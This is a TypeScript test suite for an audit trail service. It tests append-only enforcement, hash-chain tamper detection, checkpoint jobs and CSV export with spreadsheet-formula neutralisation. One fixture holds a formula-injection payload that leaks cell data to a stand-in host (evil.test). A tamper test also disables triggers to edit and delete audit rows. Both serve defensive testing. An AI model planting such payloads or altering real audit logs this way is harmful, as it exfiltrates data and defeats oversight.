import { QueueEvents } from 'bullmq';
import request from 'supertest';
import { DataSource } from 'typeorm';
import { AuditCheckpoint } from '../server/audit/audit-checkpoint.entity';
import { Clock } from '../server/core/clock';
import { AuditEvent } from '../server/audit/audit-event.entity';
import { chainHash } from '../server/audit/audit-chain';
import { AuditService } from '../server/audit/audit.service';
import { AuditQueryService } from '../server/audit/audit-query.service';
import { AuditExplorerService, EXPORT_BATCH } from '../server/supervision/audit-explorer.service';
import { QueueService } from '../server/core/queue/queue.service';
import { StaffUser } from '../server/auth/staff-user.entity';
import { signIn, startTestApp, TestApp } from './support/app';
import { createDatabase, dropDatabase, openDataSource } from './support/db';
import { runMigrations } from '../server/core/database/migrate';
import { schema } from '../server/schema';
import { createAccount, createStaff } from './support/factories';
import { parseCsv } from './support/csv';

const SYSTEM = { actor: null, meta: { ip: null, requestId: null } };

describe('audit trail', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await startTestApp({ worker: true });
  });
  afterAll(() => t.close());

  it('refuses UPDATE, DELETE and TRUNCATE in the database itself', async () => {
    const audit = t.app.get(AuditService);
    const row = await audit.recordAlone({ ...SYSTEM, action: 'test.append-only' });
    await expect(t.dataSource.query(`UPDATE audit_events SET reason = 'x' WHERE id = $1`, [row.id])).rejects.toThrow(
      /append-only: UPDATE refused/,
    );
    await expect(t.dataSource.query(`DELETE FROM audit_events WHERE id = $1`, [row.id])).rejects.toThrow(/append-only: DELETE refused/);
    await expect(t.dataSource.query(`TRUNCATE audit_events`)).rejects.toThrow(/append-only: TRUNCATE refused/);
    expect(await t.dataSource.getRepository(AuditEvent).countBy({ id: row.id })).toBe(1);
  });

  it('writes the entry in the same transaction as the change: when the entry fails, the change rolls back', async () => {
    const admin = await createStaff(t.dataSource, ['admin']);
    const target = await createStaff(t.dataSource, ['agent']);
    const agent = await signIn(t, admin);
    // Make the audit insert fail for this one action, as a full disk or a broken constraint would.
    await t.dataSource.query(`
      CREATE OR REPLACE FUNCTION test_fail_audit() RETURNS trigger LANGUAGE plpgsql AS $$
      BEGIN IF NEW.action = 'staff.roles.change' THEN RAISE EXCEPTION 'audit insert failed'; END IF; RETURN NEW; END $$`);
    await t.dataSource.query(
      `CREATE TRIGGER test_fail_audit BEFORE INSERT ON audit_events FOR EACH ROW EXECUTE FUNCTION test_fail_audit()`,
    );
    try {
      const res = await agent.patch(`/api/staff/${target.user.id}`).send({ roles: ['agent', 'reviewer'], reason: 'promotion' });
      expect(res.status).toBe(500);
      expect(res.body.message).not.toMatch(/audit insert failed/);
    } finally {
      await t.dataSource.query(`DROP TRIGGER test_fail_audit ON audit_events`);
      await t.dataSource.query(`DROP FUNCTION test_fail_audit()`);
    }
    expect((await t.dataSource.getRepository(StaffUser).findOneByOrFail({ id: target.user.id })).roles).toEqual(['agent']);

    const ok = await agent.patch(`/api/staff/${target.user.id}`).send({ roles: ['agent', 'reviewer'], reason: 'promotion' });
    expect(ok.status).toBe(200);
    const entry = await t.dataSource.getRepository(AuditEvent).findOneByOrFail({ action: 'staff.roles.change', targetId: target.user.id });
    expect(entry).toMatchObject({
      actorId: admin.user.id,
      actorEmail: admin.email,
      actorRoles: ['admin'],
      reason: 'promotion',
      before: { roles: ['agent'], active: true },
      after: { roles: ['agent', 'reviewer'], active: true },
    });
  });

  it('lists entries newest first with combinable filters and keyset pages that neither skip nor repeat', async () => {
    const supervisor = await createStaff(t.dataSource, ['supervisor']);
    const audit = t.app.get(AuditService);
    const target = `acct-${Date.now()}`;
    for (let i = 0; i < 7; i++) {
      await audit.recordAlone({
        ...SYSTEM,
        action: i % 2 ? 'test.odd' : 'test.even',
        targetType: 'account',
        targetId: target,
        reason: `n${i}`,
      });
    }
    const agent = await signIn(t, supervisor);
    const seen: string[] = [];
    let cursor: string | null = null;
    do {
      const res = await agent
        .get('/api/audit-events')
        .query({ targetType: 'account', targetId: target, limit: 3, ...(cursor ? { cursor } : {}) });
      expect(res.status).toBe(200);
      seen.push(...res.body.data.map((e: { reason: string }) => e.reason));
      cursor = res.body.nextCursor;
    } while (cursor);
    expect(seen).toEqual(['n6', 'n5', 'n4', 'n3', 'n2', 'n1', 'n0']);

    const odd = await agent.get('/api/audit-events').query({ targetId: target, action: 'test.odd' });
    expect(odd.body.data.map((e: { reason: string }) => e.reason)).toEqual(['n5', 'n3', 'n1']);
    expect(odd.body.nextCursor).toBeNull();

    const future = await agent.get('/api/audit-events').query({ targetId: target, from: new Date(Date.now() + 3600_000).toISOString() });
    expect(future.body.data).toEqual([]);

    const bad = await agent.get('/api/audit-events').query({ from: 'yesterday', limit: 1000, cursor: '!!' });
    expect(bad.status).toBe(400);
    expect(Object.keys(bad.body.errors).sort()).toEqual(['from', 'limit']);
    const badCursor = await agent.get('/api/audit-events').query({ cursor: 'bm90LWEtbnVtYmVy' });
    expect(badCursor.status).toBe(400);

    const one = await agent.get(`/api/audit-events/${odd.body.data[0].id}`);
    expect(one.status).toBe(200);
    expect(one.body).toMatchObject({ action: 'test.odd', reason: 'n5', hash: expect.stringMatching(/^[0-9a-f]{64}$/) });
    expect((await agent.get('/api/audit-events/999999999999')).status).toBe(404);
    expect((await agent.get('/api/audit-events/abc')).status).toBe(404);
  });

  it('keeps the chain intact under concurrent writers', async () => {
    const audit = t.app.get(AuditService);
    // Stand-alone entries (one autocommit statement) and entries inside transactions that go on after them,
    // interleaved; the database hashes, so accents and emoji must hash there exactly as the verifier does here.
    const written = await Promise.all(
      Array.from({ length: 30 }, (_, i) =>
        i % 3 === 0
          ? t.dataSource.transaction(async (m) => {
              const entry = await audit.record(m, { ...SYSTEM, action: 'test.concurrent', reason: `tx ${i}`, after: { i } });
              await m.query('SELECT pg_sleep(0.01)');
              return entry;
            })
          : audit.recordAlone({
              ...SYSTEM,
              action: 'test.concurrent',
              reason: `Élodie Lefèvre ✓ ${i}`,
              after: { note: 'naïve café 🙂', i },
            }),
      ),
    );
    for (const entry of written) expect(entry.hash).toBe(chainHash(entry.prevHash, entry));
    expect(new Set(written.map((e) => e.prevHash)).size).toBe(written.length);
    const result = await t.app.get(AuditQueryService).verifyAll();
    expect(result).toMatchObject({ ok: true, firstBrokenId: null });
  });

  it('runs the checkpoint job end to end through BullMQ and records the checkpoint', async () => {
    const queues = t.app.get(QueueService);
    const events = new QueueEvents('maintenance', { connection: { url: t.config.redisUrl }, prefix: t.config.queuePrefix });
    await events.waitUntilReady();
    try {
      const before = await t.dataSource.getRepository(AuditCheckpoint).count();
      const jobId = await queues.enqueue('audit.checkpoint', {}, { jobId: `test-checkpoint-${Date.now()}` });
      const job = await queues.queue('maintenance').getJob(jobId!);
      const result = await job!.waitUntilFinished(events, 20_000);
      expect(result).toMatchObject({ ok: true });
      expect(await t.dataSource.getRepository(AuditCheckpoint).count()).toBeGreaterThan(before);
      const last = await t.app.get(AuditQueryService).lastCheckpoint();
      const newest = await t.dataSource.getRepository(AuditEvent).findOne({ where: {}, order: { id: 'DESC' } });
      expect(last).toMatchObject({ ok: true, lastEventId: newest!.id, lastHash: newest!.hash });
    } finally {
      await events.close();
    }
  });

  it('answers verify for supervisors only', async () => {
    const supervisor = await signIn(t, await createStaff(t.dataSource, ['supervisor']));
    const res = await supervisor.get('/api/audit-events/verify');
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({ ok: true, firstBrokenId: null });
    expect(res.body.checked).toBeGreaterThan(0);
    const agent = await signIn(t, await createStaff(t.dataSource, ['agent']));
    expect((await agent.get('/api/audit-events/verify')).status).toBe(403);
    expect((await request(t.url).get('/api/audit-events/verify')).status).toBe(401);
  });
});

describe('audit chain tampering (own database)', () => {
  const name = `recovery_desk_tamper_${process.env.TEST_WORKER_TAG}`;
  let ds: DataSource;
  beforeAll(async () => {
    const url = await createDatabase(name, true);
    await runMigrations(url, schema);
    ds = await openDataSource(url);
  });
  afterAll(async () => {
    await ds?.destroy();
    await dropDatabase(name);
  });

  it('detects a row edited behind the triggers, and the checkpoint job records the break', async () => {
    const audit = new AuditService(ds, new Clock());
    const query = new AuditQueryService(ds, new Clock());
    const rows: AuditEvent[] = [];
    for (let i = 0; i < 5; i++)
      rows.push(await audit.recordAlone({ ...SYSTEM, action: 'test.tamper', reason: `r${i}`, after: { masked: 'p***@e***.com' } }));
    expect(await query.verifyAll()).toEqual({ ok: true, checked: 5, firstBrokenId: null, lastEventId: rows[4].id });
    expect((await query.checkpoint()).ok).toBe(true);

    // A superuser can switch triggers off; the chain still tells.
    await ds.transaction(async (m) => {
      await m.query(`SET LOCAL session_replication_role = replica`);
      await m.query(`UPDATE audit_events SET after = '{"masked": "x***@e***.com"}' WHERE id = $1`, [rows[2].id]);
    });
    expect(await query.verifyAll()).toMatchObject({ ok: false, firstBrokenId: rows[2].id });

    const sixth = await audit.recordAlone({ ...SYSTEM, action: 'test.tamper', reason: 'after the edit' });
    // The edit sits before the last good checkpoint: the incremental run does not re-read it; the full verify does.
    expect((await query.checkpoint()).ok).toBe(true);

    const seventh = await audit.recordAlone({ ...SYSTEM, action: 'test.tamper', reason: 'r7' });
    const eighth = await audit.recordAlone({ ...SYSTEM, action: 'test.tamper', reason: 'r8' });
    await ds.transaction(async (m) => {
      await m.query(`SET LOCAL session_replication_role = replica`);
      await m.query(`DELETE FROM audit_events WHERE id = $1`, [seventh.id]);
    });
    expect(await query.checkpoint()).toMatchObject({ ok: false, firstBrokenId: eighth.id });
    // Until someone looks into it, every later run keeps reporting the break.
    expect(await query.checkpoint()).toMatchObject({ ok: false, firstBrokenId: eighth.id });

    // Removing the anchor of the last good checkpoint is caught too.
    await ds.transaction(async (m) => {
      await m.query(`SET LOCAL session_replication_role = replica`);
      await m.query(`DELETE FROM audit_events WHERE id = $1`, [sixth.id]);
    });
    expect(await query.checkpoint()).toMatchObject({ ok: false, firstBrokenId: sixth.id });
  });
});

describe('audit export', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await startTestApp();
  });
  afterAll(() => t.close());

  it('streams the filtered trail as CSV to supervisors across several batches, and audits the export', async () => {
    const audit = t.app.get(AuditService);
    const target = `export-${Date.now()}`;
    // More rows than one batch, written in one go to keep the test quick.
    await t.dataSource.transaction(async (m) => {
      for (let i = 0; i < 2105; i++)
        await audit.record(m, { ...SYSTEM, action: 'test.export', targetType: 'account', targetId: target, reason: `r${i}, "quoted"` });
    });
    const staff = await createStaff(t.dataSource, ['supervisor']);
    const supervisor = await signIn(t, staff);
    const res = await supervisor
      .get('/api/audit-events/export')
      .query({ targetId: target })
      .buffer(true)
      .parse((r, cb) => {
        let text = '';
        r.on('data', (d: Buffer) => (text += d.toString()));
        r.on('end', () => cb(null, text));
      });
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="audit-/);
    const lines = (res.body as string).trim().split('\n');
    expect(lines[0]).toBe(
      'id,at,actorEmail,actorRoles,action,outcome,targetType,targetId,caseId,customerId,reason,before,after,ip,requestId,prevHash,hash',
    );
    expect(lines).toHaveLength(2106);
    expect(lines[1]).toContain('"r2104, ""quoted"""');
    expect(lines[2105]).toContain('"r0, ""quoted"""');
    const entry = await t.dataSource.getRepository(AuditEvent).findOneByOrFail({ actorId: staff.user.id, action: 'audit.export' });
    expect(entry.after).toEqual({ filter: { targetId: target } });

    const agent = await signIn(t, await createStaff(t.dataSource, ['agent']));
    expect((await agent.get('/api/audit-events/export')).status).toBe(403);
  });

  it('reads the export a batch at a time and stops reading when the client is gone', async () => {
    const audit = t.app.get(AuditService);
    const explorer = t.app.get(AuditExplorerService);
    const target = `export-batches-${Date.now()}`;
    // Exactly two full batches: the third read finds nothing and adds nothing, not even a second header.
    const total = 2 * EXPORT_BATCH;
    await t.dataSource.transaction(async (m) => {
      for (let i = 0; i < total; i++)
        await audit.record(m, { ...SYSTEM, action: 'test.export', targetType: 'account', targetId: target, reason: `b${i}` });
    });
    const filter = await explorer.filter({ targetId: target });
    const texts: string[] = [];
    await explorer.writeCsv(filter, async (text) => {
      texts.push(text);
      return true;
    });
    expect(texts.map((x) => x.split('\n').length - 1)).toEqual([EXPORT_BATCH + 1, EXPORT_BATCH]);
    const [header, ...rows] = parseCsv(texts.join(''));
    expect(header[0]).toBe('id');
    expect(rows.map((r) => r[header.indexOf('reason')])).toEqual(Array.from({ length: total }, (_, i) => `b${total - 1 - i}`));

    const taken: string[] = [];
    await explorer.writeCsv(filter, async (text) => {
      taken.push(text);
      return false;
    });
    expect(taken).toHaveLength(1);
  });

  it('answers an export that matches nothing with the header line alone', async () => {
    const supervisor = await signIn(t, await createStaff(t.dataSource, ['supervisor']));
    const res = await supervisor
      .get('/api/audit-events/export')
      .query({ targetId: `nothing-${Date.now()}` })
      .buffer(true)
      .parse((r, cb) => {
        let text = '';
        r.on('data', (d: Buffer) => (text += d.toString()));
        r.on('end', () => cb(null, text));
      });
    expect(res.status).toBe(200);
    expect(res.body).toBe(
      'id,at,actorEmail,actorRoles,action,outcome,targetType,targetId,caseId,customerId,reason,before,after,ip,requestId,prevHash,hash\n',
    );
  });

  it('neutralises spreadsheet formulas typed by staff or by anyone at the login form in every column', async () => {
    const since = new Date(Date.now() - 1000).toISOString();
    const created = await createStaff(t.dataSource, ['agent'], { email: `-agent-${Date.now()}@staff.test` });
    const agent = await signIn(t, { ...created, email: created.user.email });
    const account = await createAccount(t.dataSource);
    const callReference = '=HYPERLINK("http://evil.test/?d="&A1,"call 42")';
    expect((await agent.post(`/api/accounts/${account.id}/verifications`).send({ callReference })).status).toBe(201);
    for (const email of ['-2+3@x.test', '=1+1@x.test', '+1@x.test']) {
      expect((await request(t.url).post('/api/auth/login').send({ email, password: 'not it', otp: '000000' })).status).toBe(401);
    }

    const supervisor = await signIn(t, await createStaff(t.dataSource, ['supervisor']));
    const res = await supervisor
      .get('/api/audit-events/export')
      .query({ from: since })
      .buffer(true)
      .parse((r, cb) => {
        let text = '';
        r.on('data', (d: Buffer) => (text += d.toString()));
        r.on('end', () => cb(null, text));
      });
    expect(res.status).toBe(200);
    const [header, ...rows] = parseCsv(res.body as string);
    const col = (name: string) => header.indexOf(name);
    const byAgent = rows.filter((r) => r[col('actorEmail')] === `'${created.user.email}`);
    expect(byAgent.length).toBeGreaterThan(0);
    expect(byAgent.map((r) => r[col('reason')])).toContain(`'${callReference}`);
    const failed = rows.filter((r) => r[col('action')] === 'auth.login.failed').map((r) => r[col('targetId')]);
    expect(failed).toEqual(expect.arrayContaining([`'-2+3@x.test`, `'=1+1@x.test`, `'+1@x.test`]));
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
